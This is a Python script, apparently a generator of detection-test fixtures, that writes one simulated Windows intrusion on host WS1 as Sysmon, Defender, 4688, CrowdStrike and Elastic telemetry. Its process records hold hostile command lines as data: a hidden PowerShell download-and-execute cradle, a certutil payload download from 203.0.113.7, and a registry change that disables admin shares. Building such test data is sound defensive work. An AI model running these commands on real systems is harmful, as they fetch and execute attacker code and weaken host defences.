"""Writes the two renderings of one activity (run from this folder: python make.py).

The same host WS1 and the same processes, once as Sysmon JSON lines (flat, as OTRF/NXLog
write them) and once as a Defender Advanced Hunting CSV (a union of DeviceProcessEvents,
DeviceFileEvents, DeviceRegistryEvents and DeviceNetworkEvents columns).
"""
import csv
import json

HOST = "WS1"
MD5 = {"winword": "8D3A4F1E2B7C6D5E4F3A2B1C0D9E8F7A", "powershell": "7353F60B1739074EB17C5F4DDDEFE239",
       "certutil": "6E1B2B8C4A0D3F5E7A9C1B3D5F7E9A0B", "reg": "2E8B3C5D7F9A1B3C5D7E9F1A3B5C7D9E",
       "notepad": "1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6D", "anydesk": "0F1E2D3C4B5A69788796A5B4C3D2E1F0"}
SHA256 = {k: (v * 2).lower() for k, v in MD5.items()}
PROCS = [  # key, pid, ppid, image, cmdline, original file name, parent key, time
    ("winword", 4000, 3000, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\bob\Downloads\invoice.docm"',
     "WinWord.exe", None, "10:00:01"),
    ("powershell", 4100, 4000, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/s')\"",
     "PowerShell.EXE", "winword", "10:00:05"),
    ("certutil", 4200, 4100, r"C:\Windows\System32\certutil.exe",
     r"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe",
     "CertUtil.exe", "powershell", "10:00:09"),
    ("reg", 4300, 4100, r"C:\Windows\System32\reg.exe",
     r"reg.exe add HKLM\System\CurrentControlSet\Services\LanmanServer\Parameters /v AutoShareWks /t REG_DWORD /d 0 /f",
     "reg.exe", "powershell", "10:00:20"),
    ("notepad", 4400, 3000, r"C:\Windows\System32\notepad.exe", r"notepad.exe C:\Users\bob\todo.txt",
     "NOTEPAD.EXE", None, "10:00:30"),
    ("anydesk", 4500, 3000, r"C:\Users\bob\Downloads\AnyDesk.exe", r'"C:\Users\bob\Downloads\AnyDesk.exe"',
     "AnyDesk.exe", None, "10:00:40"),
]
EXPLORER = (3000, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
BY = {p[0]: p for p in PROCS}
REG_KEY = r"HKLM\System\CurrentControlSet\Services\LanmanServer\Parameters"
ANYDESK_FILE = r"C:\Users\bob\AppData\Roaming\AnyDesk\user.conf"


def guid(pid):
    return "{5AA1F0E2-0000-0000-%04d-000000000000}" % pid


def parent_of(p):
    if p[6]:
        q = BY[p[6]]
        return q[1], q[3], q[4]
    return EXPLORER


def sysmon():
    out, rec = [], 100
    def ev(eid, t, **data):
        nonlocal rec
        rec += 1
        out.append({"EventID": eid, "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "SourceName": "Microsoft-Windows-Sysmon", "Hostname": HOST, "RecordNumber": rec,
                    "EventTime": f"2026-11-02T{t}.000Z", "UtcTime": f"2026-11-02 {t}.000", **data})
    for p in PROCS:
        ppid, pimg, pcmd = parent_of(p)
        ev(1, p[7], ProcessGuid=guid(p[1]), ProcessId=str(p[1]), Image=p[3], CommandLine=p[4],
           OriginalFileName=p[5], CurrentDirectory="C:\\Users\\bob\\", User="CORP\\bob",
           IntegrityLevel="Medium", Hashes=f"MD5={MD5[p[0]]},SHA256={SHA256[p[0]].upper()}",
           ParentProcessGuid=guid(ppid), ParentProcessId=str(ppid), ParentImage=pimg, ParentCommandLine=pcmd)
    ps, cu, rg, ad = BY["powershell"], BY["certutil"], BY["reg"], BY["anydesk"]
    ev(22, "10:00:06", ProcessGuid=guid(ps[1]), ProcessId=str(ps[1]), Image=ps[3],
       QueryName="userstorage.mega.co.nz", QueryStatus="0", QueryResults="::ffff:66.203.125.11;")
    ev(3, "10:00:10", ProcessGuid=guid(cu[1]), ProcessId=str(cu[1]), Image=cu[3], User="CORP\\bob",
       Protocol="tcp", Initiated="true", SourceIsIpv6="false", SourceIp="10.0.0.5", SourcePort="50100",
       DestinationIsIpv6="false", DestinationIp="203.0.113.7", DestinationPort="80")
    ev(13, "10:00:21", EventType="SetValue", ProcessGuid=guid(rg[1]), ProcessId=str(rg[1]), Image=rg[3],
       TargetObject=REG_KEY + "\\AutoShareWks", Details="DWORD (0x00000000)")
    ev(11, "10:00:41", ProcessGuid=guid(ad[1]), ProcessId=str(ad[1]), Image=ad[3],
       TargetFilename=ANYDESK_FILE, CreationUtcTime="2026-11-02 10:00:41.000")
    with open("sysmon_activity.json", "w", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o) + "\n")


COLS = ["Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA1", "SHA256",
        "MD5", "ProcessVersionInfoOriginalFileName", "ProcessId", "ProcessCommandLine",
        "ProcessIntegrityLevel", "ProcessCreationTime", "AccountDomain", "AccountName",
        "InitiatingProcessAccountDomain", "InitiatingProcessAccountName", "InitiatingProcessSHA256",
        "InitiatingProcessMD5", "InitiatingProcessFileName", "InitiatingProcessVersionInfoOriginalFileName",
        "InitiatingProcessId", "InitiatingProcessCommandLine", "InitiatingProcessCreationTime",
        "InitiatingProcessFolderPath", "InitiatingProcessParentId", "InitiatingProcessParentFileName",
        "RegistryKey", "RegistryValueName", "RegistryValueType", "RegistryValueData",
        "RemoteIP", "RemotePort", "RemoteUrl", "LocalIP", "LocalPort", "Protocol", "AdditionalFields",
        "ReportId"]


def defender():
    rows, rep = [], 500
    def row(t, action, actor, **kw):
        nonlocal rep
        rep += 1
        ppid, pimg, _ = parent_of(actor)
        r = dict.fromkeys(COLS, "")
        r.update(Timestamp=f"2026-11-02T{t}.000Z", DeviceId="d1e2f3", DeviceName=HOST, ActionType=action,
                 InitiatingProcessAccountDomain="corp", InitiatingProcessAccountName="bob",
                 InitiatingProcessFileName=actor[3].rsplit("\\", 1)[1], InitiatingProcessFolderPath=actor[3],
                 InitiatingProcessId=str(actor[1]), InitiatingProcessCommandLine=actor[4],
                 InitiatingProcessVersionInfoOriginalFileName=actor[5],
                 InitiatingProcessMD5=MD5[actor[0]].lower(), InitiatingProcessSHA256=SHA256[actor[0]],
                 InitiatingProcessCreationTime=f"2026-11-02T{actor[7]}.000Z",
                 InitiatingProcessParentId=str(ppid), InitiatingProcessParentFileName=pimg.rsplit("\\", 1)[1],
                 ReportId=str(rep))
        r.update(kw)
        rows.append(r)
    for p in PROCS:
        ppid, pimg, pcmd = parent_of(p)
        parent = BY[p[6]] if p[6] else None
        r = dict.fromkeys(COLS, "")
        rep += 1
        r.update(Timestamp=f"2026-11-02T{p[7]}.000Z", DeviceId="d1e2f3", DeviceName=HOST,
                 ActionType="ProcessCreated", FileName=p[3].rsplit("\\", 1)[1], FolderPath=p[3],
                 SHA256=SHA256[p[0]], MD5=MD5[p[0]].lower(), ProcessVersionInfoOriginalFileName=p[5],
                 ProcessId=str(p[1]), ProcessCommandLine=p[4], ProcessIntegrityLevel="Medium",
                 ProcessCreationTime=f"2026-11-02T{p[7]}.000Z", AccountDomain="corp", AccountName="bob",
                 InitiatingProcessAccountDomain="corp", InitiatingProcessAccountName="bob",
                 InitiatingProcessFileName=pimg.rsplit("\\", 1)[1], InitiatingProcessFolderPath=pimg,
                 InitiatingProcessId=str(ppid), InitiatingProcessCommandLine=pcmd,
                 InitiatingProcessCreationTime=f"2026-11-02T{parent[7] if parent else '09:00:00'}.000Z",
                 ReportId=str(rep))
        rows.append(r)
    ps, cu, rg, ad = BY["powershell"], BY["certutil"], BY["reg"], BY["anydesk"]
    row("10:00:06", "DnsConnectionInspected", ps, RemoteIP="10.0.0.1", RemotePort="53", LocalIP="10.0.0.5",
        LocalPort="55000", Protocol="Udp",
        AdditionalFields=json.dumps({"direction": "Outbound", "query": "userstorage.mega.co.nz",
                                     "query_type": "A", "answers": ["66.203.125.11"]}))
    row("10:00:10", "ConnectionSuccess", cu, RemoteIP="203.0.113.7", RemotePort="80",
        RemoteUrl="http://203.0.113.7/a.exe", LocalIP="10.0.0.5", LocalPort="50100", Protocol="Tcp")
    row("10:00:21", "RegistryValueSet", rg,
        RegistryKey=r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\LanmanServer\Parameters",
        RegistryValueName="AutoShareWks", RegistryValueType="Dword", RegistryValueData="0")
    row("10:00:41", "FileCreated", ad, FileName="user.conf", FolderPath=ANYDESK_FILE,
        SHA256="ab" * 32)
    with open("defender_activity.csv", "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=COLS)
        w.writeheader()
        w.writerows(rows)


def security_4688():
    """The process creations alone, as Windows Security 4688 (hex ids, no hashes)."""
    out = []
    for i, p in enumerate(PROCS):
        ppid, pimg, _ = parent_of(p)
        out.append({"EventID": 4688, "Channel": "Security", "SourceName": "Microsoft-Windows-Security-Auditing",
                    "Hostname": HOST, "RecordNumber": 900 + i, "EventTime": f"2026-11-02T{p[7]}.000Z",
                    "SubjectUserSid": "S-1-5-21-1-2-3-1001", "SubjectUserName": "bob",
                    "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7", "NewProcessId": hex(p[1]),
                    "NewProcessName": p[3], "TokenElevationType": "%%1938", "ProcessId": hex(ppid),
                    "CommandLine": p[4], "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
                    "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": pimg,
                    "MandatoryLabel": "S-1-16-8192"})
    with open("security_4688_activity.json", "w", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o) + "\n")


def crowdstrike():
    """The same activity as CrowdStrike FDR lines: NT device paths, UPIDs, the parent by file
    name only, network/DNS/registry/file rows naming their process by UPID alone."""
    def upid(pid):
        return str(360000000000000000 + pid)
    def dev(path):
        return "\\Device\\HarddiskVolume3" + path[2:]
    out = []
    def ev(name, t, **kw):
        ms = 1793613600000 + int(t[3:5]) * 60000 + int(t[6:8]) * 1000   # 2026-11-02T10:MM:SSZ
        out.append({"event_simpleName": name, "aid": "a1b2c3", "cid": "c0ffee", "ComputerName": HOST,
                    "event_platform": "Win", "timestamp": str(ms), "ContextTimeStamp": f"{ms / 1000:.3f}",
                    "id": f"ev-{len(out)}", **kw})
    for p in PROCS:
        ppid = BY[p[6]][1] if p[6] else EXPLORER[0]
        pname = (BY[p[6]][3] if p[6] else EXPLORER[1]).rsplit("\\", 1)[1]
        ev("ProcessRollup2", p[7], TargetProcessId=upid(p[1]), ParentProcessId=upid(ppid),
           RawProcessId=str(p[1]), ImageFileName=dev(p[3]), CommandLine=p[4], ParentBaseFileName=pname,
           MD5HashData=MD5[p[0]].lower(), SHA256HashData=SHA256[p[0]], UserName="bob")
    ps, cu, rg, ad = BY["powershell"], BY["certutil"], BY["reg"], BY["anydesk"]
    ev("DnsRequest", "10:00:06", ContextProcessId=upid(ps[1]), DomainName="userstorage.mega.co.nz",
       IP4Records="66.203.125.11;", RequestType="1")
    ev("NetworkConnectIP4", "10:00:10", ContextProcessId=upid(cu[1]), LocalAddressIP4="10.0.0.5",
       LocalPort="50100", RemoteAddressIP4="203.0.113.7", RemotePort="80", Protocol="6",
       ConnectionDirection="0")
    ev("RegGenericValueUpdate", "10:00:21", ContextProcessId=upid(rg[1]),
       RegObjectName="\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters",
       RegValueName="AutoShareWks", RegType="4", RegIntegerValue="0", RegOperationType="1")
    ev("GenericFileWritten", "10:00:41", ContextProcessId=upid(ad[1]), TargetFileName=dev(ANYDESK_FILE))
    with open("crowdstrike_activity.ndjson", "w", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o) + "\n")


def ecs():
    """The same activity as Elastic Defend documents (ECS field names, NDJSON)."""
    out = []
    def doc(t, cat, typ, actor, **kw):
        ppid, pimg, pcmd = parent_of(actor)
        d = {"@timestamp": f"2026-11-02T{t}.000Z", "ecs.version": "8.11.0", "agent.type": "endpoint",
             "host.name": HOST, "host.os.type": "windows", "event.category": cat, "event.type": typ,
             "event.id": f"e{len(out)}", "process.pid": actor[1], "process.entity_id": f"ent-{actor[1]}",
             "process.executable": actor[3], "process.name": actor[3].rsplit("\\", 1)[1],
             "process.command_line": actor[4], "process.parent.pid": ppid,
             "process.parent.entity_id": f"ent-{ppid}", "process.parent.executable": pimg,
             "process.parent.command_line": pcmd, "user.name": "bob", "user.domain": "CORP"}
        d.update(kw)
        out.append(d)
    for p in PROCS:
        doc(p[7], "process", "start", p, **{"process.pe.original_file_name": p[5],
                                             "process.hash.md5": MD5[p[0]].lower(),
                                             "process.hash.sha256": SHA256[p[0]]})
    ps, cu, rg, ad = BY["powershell"], BY["certutil"], BY["reg"], BY["anydesk"]
    doc("10:00:06", "network", "protocol", ps, **{"event.action": "lookup_result",
        "dns.question.name": "userstorage.mega.co.nz", "dns.resolved_ip": ["66.203.125.11"]})
    doc("10:00:10", "network", "start", cu, **{"event.action": "connection_attempted",
        "network.direction": "egress", "network.transport": "tcp", "source.ip": "10.0.0.5",
        "source.port": 50100, "destination.ip": "203.0.113.7", "destination.port": 80})
    doc("10:00:21", "registry", "change", rg, **{"event.action": "modification",
        "registry.hive": "HKLM", "registry.key": REG_KEY[5:], "registry.value": "AutoShareWks",
        "registry.path": REG_KEY + "\\AutoShareWks", "registry.data.type": "REG_DWORD",
        "registry.data.strings": ["0"]})
    doc("10:00:41", "file", "creation", ad, **{"event.action": "creation", "file.path": ANYDESK_FILE,
        "file.name": "user.conf"})
    with open("ecs_activity.ndjson", "w", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o) + "\n")


if __name__ == "__main__":
    ecs()
    crowdstrike()
    sysmon()
    defender()
    security_4688()
